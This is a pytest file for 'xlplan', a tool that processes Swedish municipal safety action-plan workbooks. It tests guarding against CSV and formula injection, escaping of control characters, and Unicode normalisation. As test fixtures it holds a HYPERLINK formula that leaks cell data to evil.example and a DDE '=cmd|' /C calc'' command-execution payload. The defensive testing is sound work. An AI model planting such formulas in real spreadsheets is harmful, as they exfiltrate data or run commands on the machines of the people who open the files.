"""Hostile texts in a plan stay texts in everything xlplan writes.

- A cell that looks like a formula (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``) is
  text in the city workbook and the template, and guarded in CSV (OWASP: a
  leading ``'``), unless ``--raw-csv`` asks for the texts unchanged.
- Control characters (Excel's ``_x0001_``, Word's line break ``_x000B_``) are
  written back escaped as Excel does, so every part stays well-formed and reads
  back the same; reports replace them with U+FFFD.
- Decomposed (NFD) å, ä, ö compare as the composed (NFC) letters.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import unicodedata
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import python_calamine as pc
import xlsxwriter
from lxml import etree

from xlplan import read_plan
from xlplan.csvsafe import guard_frame, guard_text
from xlplan.export import export_table
from xlplan.opc import Package, package_problems
from xlplan.rules import check
from xlplan.sheetxml import SheetEditor
from xlplan.template import structure
from xlplan.text import fold_ws, visible_text, xml_text

S = structure()
HEAD = ["Orsak", "Åtgärd", "Operativa mål", "När", "Vem", "Uppföljning"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
DDE = "=cmd|' /C calc'!A0"
GOOD = ["Otrygghet i centrum", "Dålig belysning", "Trygghetsvandring", "Minst 2 vandringar", "Maj 2025",
        "Trygghetssamordnare (SDF)", ""]
CONTROL = "Möte\x01med skolan\x0brad två _x0041_ kvar"
"""A measure with Excel's escaped \\x01, Word's line break \\x0b and text that reads like an escape."""


def write(path: Path, rows_by_area: dict[int, list[list[str]]], *, title: str = "Åtgärdsplan 2025 – Provstad",
          head: list[str] = HEAD, titles: dict[int, str] | None = None) -> Path:
    """Instruktion, the five area sheets (rows given per area, else one good row) and the analysis tab."""
    wb = xlsxwriter.Workbook(str(path))
    wb.add_worksheet(S.instruction_sheet).write_string(0, 0, title)
    for a in S.fixed_areas:
        ws = wb.add_worksheet(a.sheet)
        for c, h in enumerate([(titles or {}).get(a.number, a.title), *head]):
            ws.write_string(0, c, h)
        for r, row in enumerate(rows_by_area.get(a.number, [GOOD]), start=1):
            for c, v in enumerate(row):
                if v:
                    ws.write_string(r, c, v)
    ws = wb.add_worksheet(S.analysis_sheet)
    ws.write_string(0, 0, S.analysis_title)
    for c, h in enumerate(S.analysis_headers):
        ws.write_string(2, c, h)
    for i, a in enumerate(S.fixed_areas, start=3):
        ws.write_string(i, 0, a.title)
        for c in (1, 2, 3):
            ws.write_number(i, c, 1)
    wb.close()
    return path


def hostile_plan(path: Path) -> Path:
    return write(path, {1: [["Otrygghet i centrum", "Dålig belysning", HYPERLINK, "-5 % anmälda brott",
                             "+2 veckor", "@polisen", DDE]]})


def formulas(path: Path) -> list[str]:
    """Every <f> element's text in every worksheet of ``path``."""
    with zipfile.ZipFile(path) as zf:
        return [f for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
                for f in re.findall(r"<f[ >][^<]*", zf.read(n).decode("utf-8"))]


# --------------------------------------------------------------------------- formulas stay texts


@pytest.mark.parametrize("text, guarded", [
    ("=1+1", "'=1+1"), ("+46 8 123", "'+46 8 123"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Polisen", "Polisen"), ("", ""), ("a=b", "a=b"), ("'=1", "'=1"),
    ("Möte;=cmd|' /C calc'!A0", "Möte;'=cmd|' /C calc'!A0"), ("a; b", "a; b"),  # Swedish Excel splits at ;
])
def test_the_guard_prefixes_what_a_spreadsheet_would_execute(text, guarded):
    assert guard_text(text) == guarded


def test_the_guard_leaves_numbers_and_missing_values_alone():
    frame = pd.DataFrame({"n": [-5, 3], "x": [-1.5, 2.0], "t": ["-5", "ok"], "o": pd.Series(["=A1", None])})
    out = guard_frame(frame)
    assert list(out["n"]) == [-5, 3] and out["n"].dtype == frame["n"].dtype
    assert list(out["x"]) == [-1.5, 2.0]
    assert list(out["t"]) == ["'-5", "ok"] and out["o"][0] == "'=A1" and pd.isna(out["o"][1])
    assert list(frame["t"]) == ["-5", "ok"]  # the caller's frame is not changed


def test_export_guards_csv_and_raw_csv_writes_texts_unchanged(tmp_path, cli):
    plan = hostile_plan(tmp_path / "plan.xlsx")
    code, out, _ = cli("export", plan, "-o", tmp_path / "plan.csv")
    assert code == 0
    df = pd.read_csv(tmp_path / "plan.csv", encoding="utf-8-sig", keep_default_na=False)
    row = df[df["measure"].str.contains("HYPERLINK")].iloc[0]
    assert (row["measure"], row["goal"], row["timing"], row["owner"], row["Uppföljning"]) == (
        "'" + HYPERLINK, "'-5 % anmälda brott", "'+2 veckor", "'@polisen", "'" + DDE)
    assert row["row"] == 2 and row["area"] == 1  # numbers stay numbers
    code, out, _ = cli("export", plan)
    assert code == 0 and "'" + DDE in out and "\n" + "=" not in out
    assert cli("export", plan, "-o", tmp_path / "raw.csv", "--raw-csv")[0] == 0
    raw = pd.read_csv(tmp_path / "raw.csv", encoding="utf-8-sig", keep_default_na=False)
    assert HYPERLINK in set(raw["measure"]) and DDE in set(raw["Uppföljning"])
    python_raw = pd.read_csv(io.StringIO(export_table(read_plan(plan), None, raw=True)), keep_default_na=False)
    assert HYPERLINK in set(python_raw["measure"])
    assert cli("export", plan, "-o", tmp_path / "plan.json")[0] == 0  # JSON is typed: written raw
    assert HYPERLINK in set(pd.read_json(tmp_path / "plan.json")["measure"])


def test_consolidate_keeps_formulas_as_text_in_the_workbook_and_guards_the_csv(tmp_path, cli):
    plan = hostile_plan(tmp_path / "plan.xlsx")
    out = tmp_path / "stad.xlsx"
    code, _, _ = cli("consolidate", plan, "-o", out, "--csv", tmp_path / "stad.csv", "--html", tmp_path / "s.html")
    assert code == 0
    assert formulas(out) == []
    book = pc.CalamineWorkbook.from_path(str(out))
    cells = [v for row in book.get_sheet_by_name("Åtgärder").to_python() for v in row]
    assert HYPERLINK in cells and DDE in cells
    csv = pd.read_csv(tmp_path / "stad.csv", keep_default_na=False, encoding="utf-8-sig")
    assert "'" + HYPERLINK in set(csv["measure"]) and "'@polisen" in set(csv["owner"])
    assert cli("consolidate", plan, "-o", out, "--csv", tmp_path / "raw.csv", "--raw-csv")[0] == 0
    assert HYPERLINK in set(pd.read_csv(tmp_path / "raw.csv", keep_default_na=False)["measure"])


def test_every_workbook_xlplan_creates_writes_texts_as_texts(tmp_path, monkeypatch, cli):
    """The template/new plan and the city workbook: xlsxwriter is told never to turn text into formulas or links."""
    seen = []

    class Recording(xlsxwriter.Workbook):
        def __init__(self, filename, options=None):
            seen.append(dict(options or {}))
            super().__init__(filename, options)

    monkeypatch.setattr(xlsxwriter, "Workbook", Recording)
    assert cli("new", "-o", tmp_path / "ny.xlsx", "--district", "=1+1", "--year", "2025")[0] == 0
    plan = hostile_plan(tmp_path / "plan.xlsx")
    assert cli("consolidate", plan, "-o", tmp_path / "stad.xlsx")[0] == 0
    assert len(seen) == 3  # the new plan, the plan this test wrote, the city workbook
    for options in (seen[0], seen[2]):
        assert options.get("strings_to_formulas") is False and options.get("strings_to_urls") is False
        assert not options.get("strings_to_numbers")


def test_merge_writes_a_formula_like_follow_up_as_text(tmp_path, cli):
    master = write(tmp_path / "master.xlsx", {})
    copy = write(tmp_path / "kopia.xlsx", {1: [[*GOOD[:6], DDE]], 2: [[*GOOD[:6], "Klart\x0bvecka 12\x01"]]})
    code, out, err = cli("merge", master, copy, "-o", tmp_path / "ut.xlsx")
    assert code == 0, err
    assert formulas(tmp_path / "ut.xlsx") == [] and package_problems(tmp_path / "ut.xlsx") == []
    assert {DDE, "Klart\x0bvecka 12\x01"} <= set(read_plan(tmp_path / "ut.xlsx").table["Uppföljning"])


# --------------------------------------------------------------------------- control characters


def test_xml_text_escapes_as_excel_does():
    assert xml_text("a\x01b\x0bc") == "a_x0001_b_x000B_c"
    assert xml_text("_x0041_ och _x005F_") == "_x005F_x0041_ och _x005F_x005F_"
    assert xml_text("rad\nrad\ttabb\r") == "rad\nrad\ttabb\r"  # allowed in XML: as they are
    assert xml_text("vanlig_text") == "vanlig_text"
    assert visible_text("a\x01b\x1b[31mc\nd") == "a\ufffdb\ufffd[31mc\nd"


def test_text_written_into_a_sheet_reads_back_the_same(tmp_path):
    path = shutil.copy(write(tmp_path / "p.xlsx", {}), tmp_path / "q.xlsx")
    texts = [CONTROL, "\x01", "a\x1fb\x00c", "_x0041_", "_x005F_x0041_", "x_x0041_x0042_y", "_x00", "ä_xABCD_",
             "slut\x0b"]
    pkg = Package(path)
    ed = SheetEditor(pkg, S.instruction_sheet)
    for i, t in enumerate(texts, start=1):
        ed.set_text(f"K{i}", t)
    ed.touch()
    pkg.save(path)
    assert package_problems(path) == []
    rows = pc.CalamineWorkbook.from_path(str(path)).get_sheet_by_name(S.instruction_sheet).to_python()
    assert [rows[i][10] for i in range(len(texts))] == texts


@pytest.fixture
def control_plan(tmp_path) -> Path:
    return write(tmp_path / "styr.xlsx", {1: [["Otrygghet i centrum", "Dålig belysning", CONTROL, "",
                                               "Maj 2025", "SDF", "Start\x0bvecka 12"]]})


def _cells(path: Path, sheet: str) -> list:
    return [v for row in pc.CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet).to_python() for v in row]


def test_normalise_turns_words_line_break_into_a_line_break(control_plan, tmp_path, cli):
    code, out, err = cli("normalise", control_plan, "-o", tmp_path / "n.xlsx")
    assert code == 0, err
    assert package_problems(tmp_path / "n.xlsx") == []
    cells = _cells(tmp_path / "n.xlsx", S.fixed_areas[0].sheet)
    assert "Möte\x01med skolan\nrad två _x0041_ kvar" in cells and "Start\nvecka 12" in cells


def test_validate_marks_and_reports_a_plan_with_control_characters(control_plan, tmp_path, cli):
    code, out, err = cli("validate", control_plan, "--mark")
    assert code == 1, err
    assert package_problems(control_plan) == [] and CONTROL in _cells(control_plan, S.fixed_areas[0].sheet)
    with zipfile.ZipFile(control_plan) as zf:
        notes = "".join(zf.read(n).decode("utf-8") for n in zf.namelist() if "comments" in n)
    assert "Möte\ufffdmed skolan rad två" in notes  # the missing goal's note quotes the measure, made printable
    for fmt in ("junit", "text", "github"):
        code, out, _ = cli("validate", control_plan, "--format", fmt)
        assert code == 1 and "\x01" not in out and "\x0b" not in out
    code, out, _ = cli("validate", control_plan, "--format", "junit")
    failures = etree.fromstring(out.encode("utf-8")).iter("failure")
    assert any("Möte\ufffdmed skolan rad två" in f.get("message") for f in failures)


def test_merge_fills_and_lists_conflicts_with_control_characters(tmp_path, cli):
    master = write(tmp_path / "master.xlsx", {2: [[*GOOD[:6], "Mästarens\x01 text"]]})
    copy = write(tmp_path / "kopia.xlsx", {1: [[*GOOD[:6], "Klart\x0bvecka 12"]],
                                           2: [[*GOOD[:6], "Kopians\x02 text\x0bny rad"]]})
    code, out, err = cli("merge", master, copy, "-o", tmp_path / "ut.xlsx")
    assert code == 0, err
    assert "1 konflikt" in out and package_problems(tmp_path / "ut.xlsx") == []
    assert "Klart\x0bvecka 12" in _cells(tmp_path / "ut.xlsx", S.fixed_areas[0].sheet)
    assert "Kopians\x02 text\x0bny rad" in _cells(tmp_path / "ut.xlsx", "Konflikter")


def test_the_html_report_holds_no_control_characters(tmp_path, cli):
    plan = write(tmp_path / "plan.xlsx", {}, title="Åtgärdsplan 2025 – Styr\x01stad")
    assert cli("consolidate", plan, "-o", tmp_path / "s.xlsx", "--html", tmp_path / "s.html")[0] == 0
    page = (tmp_path / "s.html").read_text(encoding="utf-8")
    assert "Styr\ufffdstad" in page and "\x01" not in page


# --------------------------------------------------------------------------- NFC


def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def test_decomposed_headers_and_titles_read_as_composed(tmp_path):
    plan = read_plan(write(tmp_path / "nfd.xlsx", {}, title=nfd("Åtgärdsplan 2025 – Södermalm"),
                           head=[nfd(h) for h in HEAD], titles={a.number: nfd(a.title) for a in S.fixed_areas}))
    assert plan.year == 2025 and plan.district == "Södermalm"
    assert [(s.area, s.matched_by) for s in plan.area_sheets] == [(n, "title") for n in range(1, 6)]
    assert [f for f in check(plan) if f.rule == "header-mismatch"] == []
    assert fold_ws(nfd("Åtgärd")) == "Åtgärd"


def test_an_nfd_and_an_nfc_copy_of_a_text_count_once(tmp_path):
    problem = "Otrygghet på Järvatorget"
    rows = [[problem, "Mörkt", "Belysning", *GOOD[3:]], [nfd(problem), nfd("Mörkt"), "Kameror", *GOOD[3:]],
            ["", "", nfd("Kameror"), *GOOD[3:]]]
    plan = read_plan(write(tmp_path / "p.xlsx", {1: rows}))
    assert plan.counts().iloc[0][["problems", "causes", "measures"]].tolist() == [1, 1, 3]
    dup = [(f.rule, f.cell) for f in check(plan) if f.rule == "duplicate-measure"]
    assert dup == [("duplicate-measure", "C4")]


def test_merge_matches_an_nfd_copy_by_its_text(tmp_path, cli):
    master = write(tmp_path / "master.xlsx", {1: [["Otrygghet på torget", "Mörkt", "Belysning på gården",
                                                   *GOOD[3:6], ""]]})
    copy = write(tmp_path / "kopia.xlsx", {1: [[nfd("Otrygghet på torget"), nfd("Mörkt"), nfd("Belysning på gården"),
                                                *GOOD[3:6], "Klar"]]})
    code, out, err = cli("merge", master, copy, "-o", tmp_path / "ut.xlsx", "--format", "json")
    assert code == 0, err
    result = json.loads(out)
    assert result["summary"]["filled"] == 1 and result["fuzzy"] == [] and result["unmatched"] == []


def test_the_add_ins_findings_sheet_keeps_formula_like_texts_as_texts(tmp_path):
    """Through xlwings' remote engine: a measure typed as =HYPERLINK(…) reaches Granskning as text."""
    import xlwings as xw

    from tests.fixtures import write_plan
    from tests.seeds import sodermalm
    from tests.xlwings_payload import payload_for
    from xlplan import excel

    seed = {"SHEETS": [dict(s) for s in sodermalm.SHEETS], "DISTRICT": "Test", "YEAR": 2025}
    first = dict(seed["SHEETS"][0])
    rows = [dict(r) for r in first["rows"]]
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
    index = next(i for i, r in enumerate(rows) if r.get("kind") != "note")
    rows[index] = {**rows[index], "goal": "", "measure": evil}  # a finding (no goal) on the evil measure
    first["rows"] = rows
    seed["SHEETS"][0] = first
    path = write_plan(tmp_path / "evil.xlsx", seed)
    payload, merges = payload_for(path)
    book = xw.Book(json=payload)
    excel.validate(book, merges=merges)
    written = [v for a in book.json()["actions"] if a["func"] == "setValues" for row in a["values"] for v in row]
    assert any(isinstance(v, str) and v == "'" + evil[:80] or (isinstance(v, str) and v.startswith("'=HYPERLINK"))
               for v in written)
    assert not any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in written)
